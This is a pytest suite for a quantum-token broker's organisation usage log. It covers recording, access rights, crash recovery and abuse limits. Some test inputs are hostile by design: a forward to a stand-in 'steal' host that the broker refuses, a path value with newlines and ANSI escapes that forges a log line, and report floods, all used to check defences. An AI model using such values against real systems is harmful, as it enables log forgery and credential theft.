"""The org's usage record: every use of an org token reaches the org server at least once and
is stored once; admins read everyone's, members their own; a killed daemon or a server down
for a while loses none."""

from __future__ import annotations

import itertools
import json
import sqlite3
import threading

import grpc
import pytest
from conftest import wait_for
from qpu_broker_client import (
    PermissionDeniedError,
    QpuToken,
    QpuTokenType,
    TokenProvider,
)
from qpu_broker_client.proto.qpubroker.org.v1 import org_pb2

from testsupport.orgserver import ORG

ORG_AWS = TokenProvider(aws=QpuToken("organization", name="Org AWS"))
AWS_SECRET = "AKIAORGEXAMPLE000001:" + "o" * 40
BRAKET = "https://braket.us-east-1.amazonaws.com/quantum-task?token=query-secret"


def _with_token(rig, cached=None) -> None:
    """The org's IonQ token (relay, the default, unless `cached`), once the member's daemon has it."""
    rig.admin.broker().qpu_token.create(name="Org IonQ", provider="ionq", token=rig.secret, token_type="organization",
                                        cached=cached)
    wait_for(lambda: any(t.name == "Org IonQ" for t in rig.member.broker().qpu_token.get_all()[QpuTokenType.ORGANIZATION]),
             "the member's daemon to hold the org token")


def _server_records(rig, *args: str) -> list[dict]:
    r = rig.server.cli("usage", "--json", *args)
    assert r.returncode == 0, r.stderr
    return [json.loads(line) for line in r.stdout.splitlines()]


def _wait_records(rig, count: int, *args: str) -> list[dict]:
    return wait_for(lambda: (rows := _server_records(rig, *args)) and len(rows) >= count and rows,
                    f"{count} usage records on the server")


def test_every_use_and_refusal_is_recorded_without_query_or_secret(member_rig):
    _with_token(member_rig)
    member = member_rig.member.broker()
    url = member_rig.fake.url("/v0.3/jobs?api_key=query-secret")
    for _ in range(3):
        assert member.forward("POST", url, provider="ionq", qpu_tokens=ORG, body=b'{"shots": 10}').status_code == 200
    with pytest.raises(PermissionDeniedError):
        member.forward("GET", "https://catcher.example.com/steal", provider="ionq", qpu_tokens=ORG)
    rows = _wait_records(member_rig, 4)
    assert len(rows) == 4 and len({r["id"] for r in rows}) == 4
    answered = [r for r in rows if r["outcome"] == "answered"]
    assert len(answered) == 3
    for r in answered:
        assert (r["member"], r["token_name"], r["provider"], r["kind"], r["method"]) == ("bob", "Org IonQ", "ionq", "forward", "POST")
        assert (r["host"], r["path"], r["status"], r["request_bytes"]) == (member_rig.fake.netloc, "/v0.3/jobs", 200, 13)
        assert r["answer_bytes"] > 0 and r["at"].endswith("Z")
    refused = [r for r in rows if r["outcome"] == "refused-destination"]
    assert [(r["host"], r["path"], r["status"]) for r in refused] == [("catcher.example.com", "/steal", 0)]
    everything = json.dumps(rows) + (member_rig.member.paths.data_dir / "org-usage.db").read_bytes().decode("latin-1")
    assert "query-secret" not in everything and member_rig.secret not in everything
    # The text form, filtered by member and by token.
    text = member_rig.server.cli("usage", "--member", "bob", "--token", "Org IonQ")
    assert text.returncode == 0 and text.stdout.count("\n") == 4 and "bob  Org IonQ (ionq)  forward POST" in text.stdout
    assert _server_records(member_rig, "--member", "alice") == []
    # Sent and acknowledged: nothing waits on the member's disk.
    wait_for(lambda: member.org_status().usage_waiting == 0, "the member's queue to be empty")


def test_members_read_their_own_use_and_admins_everyones(member_rig):
    _with_token(member_rig)
    member_rig.forward(member_rig.member)
    member_rig.forward(member_rig.admin)
    _wait_records(member_rig, 2)
    own = member_rig.member.cli("org", "usage", "--json")
    assert own.returncode == 0, own.stderr
    assert [json.loads(line)["member"] for line in own.stdout.splitlines()] == ["bob"]
    other = member_rig.member.cli("org", "usage", "--member", "alice")
    assert other.returncode != 0 and other.stderr.count("\n") == 1 and "members read their own usage only" in other.stderr
    assert "Traceback" not in other.stderr
    everyone = member_rig.admin.cli("org", "usage", "--json")
    assert sorted(json.loads(line)["member"] for line in everyone.stdout.splitlines()) == ["alice", "bob"]
    with pytest.raises(PermissionDeniedError):
        member_rig.member.broker().org_usage(member="alice")
    bad = member_rig.member.cli("org", "usage", "--since", "yesterday")
    assert bad.returncode != 0 and "--since 'yesterday' is neither a duration" in bad.stderr


def test_signs_with_an_org_token_are_recorded(member_rig):
    member_rig.admin.broker().qpu_token.create(name="Org AWS", provider="aws", token=AWS_SECRET, token_type="organization")
    member = member_rig.member.broker()
    wait_for(lambda: any(t.name == "Org AWS" for t in member.qpu_token.get_all()[QpuTokenType.ORGANIZATION]),
             "the org aws token")
    headers = member.sign("POST", BRAKET, body=b"{}", qpu_tokens=ORG_AWS)
    assert headers["Authorization"].startswith("AWS4-HMAC-SHA256")
    [row] = _wait_records(member_rig, 1)
    assert (row["kind"], row["outcome"], row["host"], row["path"], row["request_bytes"], row["provider"]) == (
        "sign", "signed", "braket.us-east-1.amazonaws.com", "/quantum-task", 2, "aws")


def test_no_record_is_lost_to_a_sigkill_or_a_server_down_and_none_is_stored_twice(member_rig):
    _with_token(member_rig, cached=True)  # the daemon's own queue: a relay token's records are the server's
    member_rig.forward(member_rig.member)
    _wait_records(member_rig, 1)
    port = member_rig.server.port
    member_rig.server.stop()
    member = member_rig.member.broker()
    wait_for(lambda: member.org_status().state != "connected", "the member to notice the server is gone")
    for _ in range(20):  # cached handles work within the grace period; their records wait on disk
        assert member_rig.forward(member_rig.member).status_code == 200
    assert member.org_status().usage_waiting == 20
    status = member_rig.member.cli("org", "status")
    assert "20 usage records waiting to reach the server" in status.stdout
    member_rig.member.kill()
    member_rig.member.start()
    assert member_rig.member.broker().org_status().usage_waiting == 20
    member_rig.server.start(port)
    rows = _wait_records(member_rig, 21)
    wait_for(lambda: member_rig.member.broker().org_status().usage_waiting == 0, "the queue to drain")
    rows = _server_records(member_rig)
    assert len(rows) == 21 and len({r["id"] for r in rows}) == 21
    assert {r["outcome"] for r in rows} == {"answered"}


def test_reports_are_idempotent_and_a_member_cannot_write_as_someone_else(member_rig):
    stub, md = member_rig.member_client()
    record = org_pb2.UsageRecord(id="r-1", member="alice", token_id="t", token_name="x", provider="ionq", kind="forward",
                                 method="GET", host="h", path="/" + "p" * 5000, status=200, outcome="answered",
                                 request_bytes=0, answer_bytes=-1)
    first = stub.ReportUsage(org_pb2.ReportUsageRequest(records=[record]), metadata=md)
    again = stub.ReportUsage(org_pb2.ReportUsageRequest(records=[record]), metadata=md)
    assert (first.stored, first.repeated_ids, again.stored, again.repeated_ids) == (1, 0, 0, 1)
    [row] = _server_records(member_rig)
    assert row["member"] == "bob" and len(row["path"]) == 2048  # the caller, whatever was sent; fields cut to bounds
    for bad, message in (({"kind": "steal"}, "kind 'steal' is not one of"), ({"id": ""}, "needs an id"),
                         ({"outcome": "x"}, "outcome 'x' is not one of")):
        fields = {"id": "r-2", "kind": "forward", "outcome": "answered", **bad}
        with pytest.raises(grpc.RpcError) as caught:
            stub.ReportUsage(org_pb2.ReportUsageRequest(records=[org_pb2.UsageRecord(**fields)]), metadata=md)
        assert caught.value.code() is grpc.StatusCode.INVALID_ARGUMENT and message in caught.value.details()
    with pytest.raises(grpc.RpcError) as caught:
        stub.ReportUsage(org_pb2.ReportUsageRequest(records=[org_pb2.UsageRecord(id=f"m{i}", kind="forward", outcome="answered")
                                                             for i in range(1001)]), metadata=md)
    assert caught.value.code() is grpc.StatusCode.INVALID_ARGUMENT and "at most 1000" in caught.value.details()
    with pytest.raises(grpc.RpcError) as caught:
        stub.ListUsage(org_pb2.ListUsageRequest(member="alice"), metadata=md)
    assert caught.value.code() is grpc.StatusCode.PERMISSION_DENIED


def test_an_admin_follows_new_records_and_a_removed_follower_is_cut_off(member_rig):
    _with_token(member_rig)
    admin_stub, admin_md = member_rig.server.admin_client()
    member_stub, member_md = member_rig.member_client()
    followed = admin_stub.FollowUsage(org_pb2.ListUsageRequest(), metadata=admin_md)
    own = member_stub.FollowUsage(org_pb2.ListUsageRequest(), metadata=member_md)
    seen: list[org_pb2.UsageRecord] = []
    reader = threading.Thread(target=lambda: seen.extend(itertools.islice(followed, 3)), daemon=True)
    reader.start()
    # One at a time: each daemon reports on its own, a moment after a use (USAGE_LINGER), so uses
    # made together may reach the server in another order (the member's two in one report).
    for d in (member_rig.member, member_rig.admin, member_rig.member):
        member_rig.forward(d)
        wait_for(lambda d=d: d.broker().org_status().usage_waiting == 0, "the use to reach the server")
    reader.join(timeout=30)
    assert [r.member for r in seen] == ["bob", "alice", "bob"] and [r.seq for r in seen] == sorted(r.seq for r in seen)
    assert next(own).member == "bob" and next(own).member == "bob"  # a member follows their own only
    followed.cancel()
    assert member_rig.server.cli("user", "rm", "bob").returncode == 0
    with pytest.raises(grpc.RpcError) as caught:
        next(own)
    assert caught.value.code() is grpc.StatusCode.UNAUTHENTICATED and "removed" in caught.value.details()


def test_unfinished_records_of_a_killed_daemon_are_sent_as_interrupted(tmp_path):
    from qpu_broker.tokens.usage_queue import UsageQueue
    from qpu_broker_client.usage import UsageRecord

    path = tmp_path / "q.db"
    queue = UsageQueue(path)
    use = UsageRecord("", "", "t1", "Org IonQ", "ionq", "forward", "GET", "h:1", "/p", 0, "", 0, -1, 0)
    queue.begin(("srv", "bob"), use, "failed")
    done = queue.begin(("srv", "bob"), use, "failed")
    queue.finish(done, 200, "answered", 5)
    assert [r.outcome for r in queue.to_send(("srv", "bob"), 10)] == ["answered"]  # the one in flight waits
    queue._db.close()  # as a kill leaves it: no clean close of the queue
    reopened = UsageQueue(path)
    assert sorted(r.outcome for r in reopened.to_send(("srv", "bob"), 10)) == ["answered", "interrupted"]
    assert reopened.to_send(("srv", "carol"), 10) == []  # another login's records are never sent as this one's
    db = sqlite3.connect(path)
    assert db.execute("SELECT count(*) FROM queued").fetchone()[0] == 2


def test_hostile_reports_are_cut_bounded_and_rate_limited(member_rig):
    stub, md = member_rig.member_client()

    def record(i: int, **fields) -> org_pb2.UsageRecord:
        base = {"id": f"h-{i}", "token_id": "t", "token_name": "x", "provider": "ionq", "kind": "forward",
                "method": "GET", "host": "h", "path": "/", "status": 200, "outcome": "answered"}
        return org_pb2.UsageRecord(**{**base, **fields})

    forged_line = "/x\n2026-11-26T00:00:00.000Z  alice  Org IonQ (ionq)  forward DELETE h/jobs  200 answered\x1b[2K\r"
    stub.ReportUsage(org_pb2.ReportUsageRequest(records=[
        record(0, path=forged_line), record(1, request_bytes=2**62, answer_bytes=2**62, qpu_us=2**63 - 1)]), metadata=md)
    text = member_rig.server.cli("usage").stdout
    assert text.count("\n") == 2 and "alice" not in text.split("  ")[1] and "\x1b" not in text
    assert stub.ListUsage(org_pb2.ListUsageRequest(after_seq=2**64 - 1), metadata=md).records == []
    # A flood from one member is refused once past its budget (20,000, then 200 a second).
    with pytest.raises(grpc.RpcError) as caught:
        for n in range(25):
            stub.ReportUsage(org_pb2.ReportUsageRequest(records=[record(1000 * (n + 1) + i) for i in range(1000)]),
                             metadata=md)
    assert caught.value.code() is grpc.StatusCode.RESOURCE_EXHAUSTED and "records a second" in caught.value.details()


def test_a_user_holds_at_most_sixteen_streams_of_each_kind(org):
    """Issue 20, item 8: FollowUsage had no cap (Watch had 16): one member's streams each re-read
    the record at every poll. Now each kind is capped per user, in one place."""
    from qpu_broker.orgserver.streams import STREAMS_PER_USER

    stub, md = org.client(org.add_user("bob"))
    record = org_pb2.UsageRecord(id="r-1", kind="forward", outcome="answered")
    record.at.GetCurrentTime()  # a member reads their own records made since they were added
    stub.ReportUsage(org_pb2.ReportUsageRequest(records=[record]), metadata=md)

    def opened(rpc, request):
        """(the stream, once the server admitted it: its first message came; or None and the refusal)."""
        stream = rpc(request, metadata=md)
        try:
            next(stream)
        except grpc.RpcError as exc:
            return None, exc
        return stream, None

    for rpc, request, what in ((stub.FollowUsage, org_pb2.ListUsageRequest(), "usage follow streams"),
                               (stub.Watch, org_pb2.WatchRequest(), "push streams")):
        held = [opened(rpc, request)[0] for _ in range(STREAMS_PER_USER)]
        assert all(held)
        _, refused = opened(rpc, request)
        assert refused is not None and refused.code() is grpc.StatusCode.RESOURCE_EXHAUSTED
        assert f"'bob' has {STREAMS_PER_USER} {what} open on this server already" in refused.details()
        held.pop().cancel()  # a closed stream gives its place back
        held.append(wait_for(lambda rpc=rpc, request=request: opened(rpc, request)[0], "a place to come free"))
        for stream in held:
            stream.cancel()
    admin, admin_md = org.admin_client()  # per user: another's streams are not counted against alice
    assert next(admin.FollowUsage(org_pb2.ListUsageRequest(), metadata=admin_md)).id == "r-1"


def test_a_reports_date_is_kept_near_the_servers_clock_and_the_record_kept(org):
    """Issue 20, item 8: a record dated 1970 (or 9999) is stored at the bound, not refused: an
    honest record queued on a laptop for weeks is kept, only its date moves."""
    import time

    from qpu_broker.orgserver.quotas import RECORD_LATE_US_MAX
    from qpu_broker.orgserver.service import CLOCK_SKEW_US_MAX

    stub, md = org.client(org.add_user("bob"))
    day_us = 86400 * 1_000_000
    sent = {"1970": 0, "9999": 253402300799 * 1_000_000, "last-week": int(time.time() * 1e6) - 7 * day_us,
            "two-months-ago": int(time.time() * 1e6) - 60 * day_us}
    records = []
    for rid, at_us in sent.items():
        r = org_pb2.UsageRecord(id=rid, kind="forward", outcome="answered")
        r.at.FromMicroseconds(at_us)
        records.append(r)
    before = int(time.time() * 1e6)
    assert stub.ReportUsage(org_pb2.ReportUsageRequest(records=records), metadata=md).stored == 4
    after = int(time.time() * 1e6)
    admin, admin_md = org.admin_client()  # (bob reads only what is dated since he was added)
    stored = {r.id: r.at.ToMicroseconds() for r in admin.ListUsage(org_pb2.ListUsageRequest(), metadata=admin_md).records}
    for old in ("1970", "two-months-ago"):
        assert before - RECORD_LATE_US_MAX <= stored[old] <= after - RECORD_LATE_US_MAX
    assert before + CLOCK_SKEW_US_MAX <= stored["9999"] <= after + CLOCK_SKEW_US_MAX
    assert stored["last-week"] == sent["last-week"]
    assert "3 usage records from 'bob' were dated outside the last 30 days" in org.log()


def test_a_listing_pages_on_past_reads_that_matched_nothing(member_rig):
    """Attack review, break 2 (item 8): a read examines at most USAGE_SCAN_MAX rows and answers where
    it stopped, so a filter that matches nothing costs that much a call; the member's CLI (through
    their daemon) and the admin's page on from each answer's position and miss nothing."""
    import time

    from qpu_broker.orgserver.store import USAGE_SCAN_MAX

    _with_token(member_rig)
    member_rig.forward(member_rig.member)
    _wait_records(member_rig, 1)
    now = int(time.time() * 1e6)
    junk = 2 * USAGE_SCAN_MAX + USAGE_SCAN_MAX // 2  # bob's, dated a day back (as a queue held that long)
    db = sqlite3.connect(member_rig.server.data / "store" / "org.db", timeout=30)
    with db:
        db.execute("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
                   "INSERT INTO usage (id, member, token_id, token_name, provider, kind, method, host, path, status, "
                   "outcome, request_bytes, answer_bytes, at_us, received_us) SELECT 'late-' || i, 'bob', 'x', 'x', "
                   "'ionq', 'forward', 'GET', 'h', '/', 200, 'answered', 1, 1, ?, ? FROM n",
                   (junk, now - 86_400_000_000, now))
    db.close()
    member_rig.forward(member_rig.member)
    wait_for(lambda: member_rig.member.broker().org_status().usage_waiting == 0, "the second use to reach the server")
    stub, md = member_rig.member_client()
    since, pages = org_pb2.ListUsageRequest(), []
    since.since.FromMicroseconds(now - 3_600_000_000)
    while not pages or pages[-1].more:
        since.after_seq = pages[-1].next_after_seq if pages else 0
        pages.append(stub.ListUsage(since, metadata=md))
    assert [len(p.records) for p in pages] == [1, 0, 1]  # its first use, 2.5 windows of nothing, its second
    since.after_seq = 0
    follow = stub.FollowUsage(since, metadata=md)  # a follower's reads move on by the same positions
    assert [r.id for r in itertools.islice(follow, 2)] == [p.records[0].id for p in pages if p.records]
    follow.cancel()
    for listing in (member_rig.member.cli("org", "usage", "--since", "1h", "--json"),
                    member_rig.server.cli("usage", "--member", "bob", "--since", "1h", "--json")):
        assert listing.returncode == 0, listing.stderr
        rows = [json.loads(line) for line in listing.stdout.splitlines()]
        assert [r["host"] for r in rows] == [member_rig.fake.netloc] * 2


def test_usage_reads_past_a_members_budget_are_refused(org):
    """Attack review, break 2: ListUsage had no budget; one member's reads now have one (like their
    reports), and another's reads are not counted against it."""
    from qpu_broker.orgserver.budgets import READ_BURST

    stub, md = org.client(org.add_user("bob"))
    with pytest.raises(grpc.RpcError) as caught:
        for _ in range(3 * READ_BURST):
            stub.ListUsage(org_pb2.ListUsageRequest(token="no-such"), metadata=md)
    assert caught.value.code() is grpc.StatusCode.RESOURCE_EXHAUSTED
    assert "usage reads by 'bob' are over 10 a second: page on more slowly" in caught.value.details()
    admin, admin_md = org.admin_client()
    assert admin.ListUsage(org_pb2.ListUsageRequest(), metadata=admin_md).more is False


def test_an_admin_prunes_what_arrived_before_a_time_and_nothing_else(org):
    import datetime

    stub, md = org.client(org.add_user("bob"))
    record = org_pb2.UsageRecord(id="r-1", kind="forward", outcome="answered")
    record.at.GetCurrentTime()
    stub.ReportUsage(org_pb2.ReportUsageRequest(records=[record]), metadata=md)
    kept = org.cli("usage", "prune", "--before", "1d")
    assert kept.returncode == 0 and kept.stdout.startswith("removed 0 usage records that reached the server before ")
    for wrong, said in ((("usage", "prune"), "usage prune takes --before WHEN only"),
                        (("usage", "prune", "--before", "1d", "--member", "bob"), "usage prune takes --before WHEN only"),
                        (("usage", "--before", "1d"), "--before goes with 'usage prune'"),
                        (("usage", "prune", "--before", "2999-01-01"), "is in the future")):
        r = org.cli(*wrong)
        assert r.returncode == 1 and said in r.stderr and r.stderr.count("\n") == 1, r.stderr
    assert len(org.cli("usage", "--json").stdout.splitlines()) == 1
    now = datetime.datetime.now(datetime.UTC).isoformat(timespec="microseconds").replace("+00:00", "Z")
    gone = org.cli("usage", "prune", "--before", now)  # after its arrival
    assert gone.returncode == 0 and gone.stdout.startswith("removed 1 usage record that"), gone.stderr
    assert org.cli("usage", "--json").stdout == ""
    # Each prune is an admin change, in the admin record (the refused ones are not).
    pruned = [json.loads(x) for x in org.cli("audit", "--action", "usage.prune", "--json").stdout.splitlines()]
    assert [(e["actor"].startswith("cli:"), e["subject"]) for e in pruned] == [(True, "usage")] * 2, pruned
